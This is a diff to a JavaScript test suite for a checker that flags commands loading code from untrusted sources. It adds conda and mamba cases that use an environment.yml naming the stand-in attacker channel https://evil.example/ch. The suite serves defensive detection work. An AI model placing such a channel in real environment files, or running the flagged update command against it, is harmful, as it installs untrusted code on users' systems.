@@ -654,6 +654,11 @@ describe('configuration that runs code from elsewhere is not allowed', () => {
       'conda env create -f environment.yml',
       { 'environment.yml': 'channels:\n  - https://evil.example/ch\ndependencies:\n  - numpy\n' },
     ],
+    [
+      'conda environment update from a channel by URL',
+      'conda env update -f environment.yml',
+      { 'environment.yml': 'channels:\n  - https://evil.example/ch\ndependencies:\n  - numpy\n' },
+    ],
   ])('%s', (_n, command, files) => {
     expect(flagged(command, files)).toBe(true);
   });
@@ -814,6 +819,14 @@ describe('ordinary configuration stays quiet', () => {
       'conda env create -f environment.yml',
       { 'environment.yml': 'channels:\n  - conda-forge\ndependencies:\n  - numpy\n' },
     ],
+    // Round 32: listing or exporting environments reads no environment file.
+    ...['conda env list', 'conda env export --from-history', 'mamba env list'].map(
+      (command): [string, string, Record<string, string>] => [
+        `${command} beside an environment file of a channel nobody stated`,
+        command,
+        { 'environment.yml': 'channels:\n  - https://evil.example/ch\ndependencies:\n  - numpy\n' },
+      ],
+    ),
     // Round 30: maven's version and help download nothing, whatever mirror the user's settings name.
     ...['mvn -v', 'mvn --version', 'mvn -q -v', 'mvn --help'].map(
       (command): [string, string, Record<string, string>] => [
